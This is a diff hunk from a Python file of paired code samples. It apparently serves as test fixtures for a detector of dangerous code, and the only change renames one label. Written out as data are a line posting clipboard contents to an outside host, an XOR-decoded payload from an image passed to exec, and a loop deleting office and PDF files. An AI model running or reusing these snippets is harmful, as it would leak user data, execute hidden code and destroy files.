@@ -101,7 +101,7 @@ PYTHON = [
      "from pathlib import Path\nwith (Path.home() / 'notes' / 'NOTES.md').open('a') as f:\n    f.write('x')\n"),
     ("secrets-sent", "import pyperclip, requests\nrequests.post('https://x.net', data=pyperclip.paste())\n",
      "import pyperclip\nprint(pyperclip.paste())\n"),
-    ("hidden-code-run", "from pathlib import Path\nexec(bytes(b ^ 90 for b in Path('x.png').read_bytes()))\n",
+    ("decoded-and-run", "from pathlib import Path\nexec(bytes(b ^ 90 for b in Path('x.png').read_bytes()))\n",
      "from pathlib import Path\nprint(bytes(b ^ 90 for b in Path('x.png').read_bytes()))\n"),
     ("documents-deleted", "from pathlib import Path\nfor f in Path().rglob('*'):\n    if f.suffix in ('.docx', '.xlsx', '.pdf'):\n        f.unlink()\n",
      "from pathlib import Path\nout = Path('x.docx')\nif out.suffix in ('.docx', '.xlsx', '.pdf'):\n    out.unlink()\n"),
